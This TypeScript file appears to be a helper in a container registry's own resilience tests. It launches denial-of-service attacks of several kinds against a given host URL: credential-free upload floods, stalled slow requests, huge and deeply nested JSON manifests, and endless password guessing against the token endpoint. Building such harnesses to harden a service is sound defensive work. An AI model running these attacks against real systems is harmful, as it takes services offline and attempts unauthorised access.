import { stall } from './attack.ts';

// A process of its own: what an attack costs its sender must not be taken for what it costs others. Its arguments: the
// kind, the URL of the host, and what the attacker's `Authorization` says, where he is somebody.
const [kind = '', url = '', authorization = ''] = process.argv.slice(2);
const part = Buffer.alloc(900 * 1024, 'a');

function indexWith(value: string): string {
  const head = '{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json","manifests":[]';
  return `${head},"x":${value}}`;
}

async function endless(once: () => Promise<unknown>, beside: number): Promise<never> {
  const one = async (): Promise<never> => {
    for (;;) await once().catch(() => undefined);
  };
  return Promise.race(Array.from({ length: beside }, one));
}

const attacks: Readonly<Record<string, () => Promise<unknown>>> = {
  'a flood without credentials': () =>
    endless(
      async () =>
        (
          await fetch(`${url}/v2/team/app/blobs/uploads/`, {
            method: 'POST',
            headers: { authorization: 'Bearer nothing' },
          })
        ).arrayBuffer(),
      8,
    ),
  'stalled notifications': () =>
    endless(async () => {
      const each = stall(url, 'POST /api/v1/bases/notify/ghcr?token=x HTTP/1.1\r\nContent-Length: 1048576', part);
      await new Promise((resolve) => setTimeout(resolve, 250));
      if (Math.random() < 0.2) each.socket.destroy();
    }, 10),
  'stalled uploads': async () => {
    for (let at = 0; at < 150; at++) {
      const location =
        (await fetch(`${url}/v2/team/app/blobs/uploads/`, { method: 'POST' })).headers.get('location') ?? '';
      stall(url, `PATCH ${location} HTTP/1.1\r\nContent-Length: 100000000`, Buffer.alloc(4_900_000, 'a'));
    }
  },
  'large JSON': () =>
    endless(async () => {
      const body = Buffer.alloc(16 * 1024 * 1024, '[');
      await (
        await fetch(`${url}/api/v1/webhooks/mine`, {
          method: 'PUT',
          body,
          headers: { 'content-type': 'application/json' },
        })
      ).arrayBuffer();
    }, 2),
  'guesses at passwords': () =>
    endless(async () => {
      const password = Math.random().toString(36);
      const form = new URLSearchParams({ grant_type: 'password', service: '127.0.0.1', username: 'admin', password });
      await (await fetch(`${url}/oauth2/token`, { method: 'POST', body: form })).arrayBuffer();
      await (
        await fetch(`${url}/oauth2/token?service=127.0.0.1`, {
          headers: { authorization: `Basic ${Buffer.from(`reader:${password}`).toString('base64')}` },
        })
      ).arrayBuffer();
    }, 8),
  'pushes of deep manifests': () =>
    endless(async () => {
      const body = indexWith(`${'['.repeat(2_000_000)}${']'.repeat(2_000_000)}`);
      await pushed(`deep-${Math.random().toString(36).slice(2)}`, body);
    }, 2),
  'pushes of manifests of many small values': () =>
    endless(() => pushed('wide', indexWith(`[${'[],'.repeat(1_300_000)}[]]`)), 2),
  'pushes of manifests as large as may be': () =>
    endless(() => pushed('large', indexWith(`"${Math.random()}${'a'.repeat(4_000_000)}"`)), 2),
  'pushes of images with made-up bases': () =>
    endless(async () => {
      const base = `127.0.0.1:9/${Math.random().toString(36).slice(2)}:1`;
      await pushed(
        'made-up',
        JSON.stringify({
          schemaVersion: 2,
          mediaType: 'application/vnd.oci.image.index.v1+json',
          manifests: [],
          annotations: { 'org.opencontainers.image.base.name': base },
        }),
      );
    }, 4),
};

async function pushed(tag: string, body: string): Promise<void> {
  const headers = { authorization, 'content-type': 'application/vnd.oci.image.index.v1+json' };
  await (await fetch(`${url}/v2/team/evil/manifests/${tag}`, { method: 'PUT', headers, body })).arrayBuffer();
}

await attacks[kind]?.();
setInterval(() => undefined, 1_000);
